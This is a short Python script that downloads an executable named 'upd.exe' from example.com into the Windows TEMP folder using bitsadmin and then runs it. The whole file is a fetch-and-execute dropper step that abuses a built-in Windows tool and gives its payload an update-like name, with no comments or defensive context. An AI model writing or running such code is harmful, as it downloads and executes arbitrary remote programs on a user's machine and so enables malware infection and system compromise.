import os
import subprocess

target = os.path.join(os.environ.get("TEMP", "C:\\Temp"), "upd.exe")
subprocess.call(["bitsadmin", "/transfer", "job", "https://example.com/upd.exe", target])
os.startfile(target) if hasattr(os, "startfile") else subprocess.call([target])
